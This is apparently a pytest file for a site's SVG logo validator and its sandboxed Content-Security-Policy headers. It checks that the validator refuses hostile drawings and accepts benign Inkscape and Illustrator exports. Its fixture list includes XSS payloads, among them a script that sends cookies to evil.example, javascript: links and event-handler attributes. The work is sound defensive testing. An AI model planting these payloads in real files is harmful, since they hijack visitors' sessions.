"""An editor's drawing (the logo, any SVG under docs/) may draw and nothing more
(policy_site/pages/drawing.py): a corpus of hostile and benign SVG files, and the policy the
built site's _headers gives them."""

from __future__ import annotations

from pathlib import Path

import pytest

from policy_site.pages.drawing import drawing_problems
from policy_site.publishing import headers
from tests.browser.server import headers_for, parse_headers_file
from tests.site.projects import ROOT

LOGO = "docs/assets/images/logo.svg"
OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'viewBox="0 0 64 64">\n'
)
CLOSE = "\n</svg>\n"

# Each hostile body goes on line 2 of a drawing; with it, words the refusal must say.
HOSTILE = {
    "script": ("<script>fetch('https://evil.example/?c='+document.cookie)</script>", "<script>"),
    "script in CDATA": ("<script><![CDATA[alert(1)]]></script>", "<script>"),
    "xhtml script": (
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
        "<script>",
    ),
    "foreignObject": (
        '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">Refunds: evil@x</p>'
        "</foreignObject>",
        "<foreignObject>",
    ),
    "external image": ('<image href="https://evil.example/track.png"/>', "<image>"),
    "image from a data address": ('<image href="data:image/png;base64,AAAA"/>', "<image>"),
    "onload": ('<rect width="4" height="4" onload="alert(1)"/>', "event handler"),
    "ONCLICK in capitals": ('<rect ONCLICK="alert(1)"/>', "event handler"),
    "link": ('<a href="https://evil.example/"><rect width="64" height="64"/></a>', "<a>"),
    "javascript link": ('<a xlink:href="javascript:alert(1)"><rect/></a>', "<a>"),
    "use of another file": ('<use href="https://evil.example/sprite.svg#x"/>', "outside"),
    "use of a local file": ('<use xlink:href="other.svg#x"/>', "outside"),
    "gradient from elsewhere": (
        '<linearGradient id="g" href="https://evil.example/g.svg#g"/>',
        "outside",
    ),
    "fill from elsewhere": ('<rect fill="url(https://evil.example/p.svg#p)"/>', "outside"),
    "escaped fill url": ('<rect fill="u\\72l(https://evil.example/p)"/>', "outside"),
    "style attribute url": ('<rect style="fill: url(https://evil.example/p)"/>', "outside"),
    "style element import": (
        '<style>@import url("https://evil.example/x.css");</style>',
        "@import",
    ),
    "style element url": (
        "<style>rect { fill: url(https://evil.example/p.svg#p) }</style>",
        "outside",
    ),
    "style font from elsewhere": (
        "<style>@font-face { font-family: x; src: url(https://evil.example/f) }</style>",
        "@font-face",
    ),
    "animation that sets a link": (
        '<set attributeName="href" to="javascript:alert(1)"/>',
        "<set>",
    ),
    "animate": ('<animate attributeName="opacity" to="0" dur="1s"/>', "<animate>"),
    "iframe in svg namespace": ("<iframe/>", "<iframe>"),
    "unknown namespace": ('<x:thing xmlns:x="https://evil.example/ns"/>', "<thing>"),
    "unknown attribute": ('<rect formaction="https://evil.example/"/>', "formaction"),
    "xml-stylesheet": ('<?xml-stylesheet href="https://evil.example/x.css"?>', "<?xml-stylesheet"),
}


def drawing(tmp_path: Path, text: str) -> list[str]:
    path = tmp_path / "logo.svg"
    path.write_text(text, encoding="utf-8")
    return drawing_problems(path, LOGO)


@pytest.mark.parametrize(("body", "says"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_drawing_is_refused_at_its_line_with_what_to_do(
    tmp_path: Path, body: str, says: str
) -> None:
    problems = drawing(tmp_path, OPEN + body + CLOSE)
    assert problems, f"{body!r} was allowed"
    assert problems[0].startswith(f"{LOGO}:2: "), problems
    assert says in problems[0], problems
    assert "Remove" in problems[0] or "instead" in problems[0] or "remove" in problems[0]


@pytest.mark.parametrize(
    ("text", "line", "says"),
    [
        (
            '<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY lol "lol">\n]>\n'
            '<svg xmlns="http://www.w3.org/2000/svg">&lol;</svg>',
            2,
            "<!DOCTYPE",
        ),
        (
            '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
            '<svg xmlns="http://www.w3.org/2000/svg"/>',
            2,
            "<!DOCTYPE",
        ),
        ('<svg xmlns="http://www.w3.org/2000/svg">\n<rect>\n</svg>', 3, "not well-formed"),
        ("<svg>\n<rect/>\n</svg>", 1, "no SVG namespace"),
        (
            '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
            1,
            "<html>",
        ),
    ],
    ids=["entities", "doctype", "unclosed tag", "no namespace", "an html page"],
)
def test_a_drawing_that_is_not_plain_svg_is_refused(
    tmp_path: Path, text: str, line: int, says: str
) -> None:
    problems = drawing(tmp_path, text)
    assert problems and problems[0].startswith(f"{LOGO}:{line}: "), problems
    assert says in problems[0], problems


INKSCAPE = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="64" height="64" viewBox="0 0 64 64" version="1.1" id="svg1"
   inkscape:version="1.3 (0e150ed6c4, 2023-07-21)" sodipodi:docname="logo.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
   xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" inkscape:zoom="4"/>
  <title id="title1">ImgToSTL</title>
  <defs id="defs1">
    <linearGradient id="a" inkscape:collect="always">
      <stop style="stop-color:#1d3f8f;stop-opacity:1" offset="0" id="stop1"/>
      <stop style="stop-color:#3f63c4;stop-opacity:1" offset="1" id="stop2"/>
    </linearGradient>
    <radialGradient xlink:href="#a" id="b" cx="32" cy="32" r="32"
       gradientUnits="userSpaceOnUse"/>
    <clipPath id="c"><circle cx="32" cy="32" r="30"/></clipPath>
    <filter id="shadow"><feGaussianBlur stdDeviation="1"/></filter>
  </defs>
  <metadata><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format></cc:Work>
  </rdf:RDF></metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1" clip-path="url(#c)">
    <rect style="fill:url(#b);stroke:none" width="64" height="64" rx="14" id="rect1"/>
    <path d="M32 12 50 22v20L32 52 14 42V22z" fill="none" stroke="#fff" stroke-width="4"
       filter="url(#shadow)"/>
    <text x="32" y="60" font-family="sans-serif" font-size="6" text-anchor="middle"
       fill="#fff" xml:space="preserve"><tspan>ImgToSTL</tspan></text>
    <use href="#rect1" opacity="0.5"/>
  </g>
</svg>
"""

ILLUSTRATOR = """<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg"
  xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 64 64"
  style="enable-background:new 0 0 64 64;" xml:space="preserve">
<style type="text/css">
  .st0{fill:#1D3F8F;}
  .st1{fill:none;stroke:#FFFFFF;stroke-width:4;stroke-linejoin:round;}
</style>
<g><rect class="st0" width="64" height="64" rx="14"/>
<polygon class="st1" points="32,12 50,22 50,42 32,52 14,42 14,22"/></g>
</svg>
"""


@pytest.mark.parametrize(
    "text",
    [(ROOT / LOGO).read_text(encoding="utf-8"), INKSCAPE, ILLUSTRATOR],
    ids=["the current logo", "saved by Inkscape", "exported by Illustrator"],
)
def test_a_benign_logo_is_allowed(tmp_path: Path, text: str) -> None:
    assert drawing(tmp_path, text) == []


def test_every_finding_of_a_drawing_is_reported_each_at_its_line(tmp_path: Path) -> None:
    text = OPEN + '<rect width="1"/>\n<script>x</script>\n<circle onclick="x"/>' + CLOSE
    problems = drawing(tmp_path, text)
    assert [problem.split(": ", 1)[0] for problem in problems] == [f"{LOGO}:3", f"{LOGO}:4"]


def test_every_svg_file_of_the_site_has_a_policy_of_its_own_in_headers(tmp_path: Path) -> None:
    # The file as the build writes it, read as a host reads it: the drawing's policy is sent for
    # the drawing (with the pages' policy of /*), and not for a page.
    (tmp_path / "assets" / "images").mkdir(parents=True)
    (tmp_path / "assets" / "images" / "logo.svg").write_text(OPEN + CLOSE, encoding="utf-8")
    (tmp_path / "assets" / "images" / "my mark.svg").write_text(OPEN + CLOSE, encoding="utf-8")
    (tmp_path / "index.html").write_text("<!doctype html><title>x</title>", encoding="utf-8")
    headers.write_headers(tmp_path, [])
    rules = parse_headers_file((tmp_path / "_headers").read_text(encoding="utf-8"))
    for path in ("/assets/images/logo.svg", "/assets/images/my%20mark.svg"):
        policy = headers_for(path, rules)["Content-Security-Policy"]
        assert policy.endswith(", default-src 'none'; style-src 'unsafe-inline'; sandbox"), policy
    assert "sandbox" not in headers_for("/index.html", rules)["Content-Security-Policy"]


def test_the_built_site_serves_its_logo_with_the_drawing_policy(site: Path) -> None:
    rules = parse_headers_file((site / "_headers").read_text(encoding="utf-8"))
    policy = headers_for("/assets/images/logo.svg", rules)["Content-Security-Policy"]
    assert "default-src 'none'; style-src 'unsafe-inline'; sandbox" in policy
    assert "script-src" not in policy.split(", ")[-1]
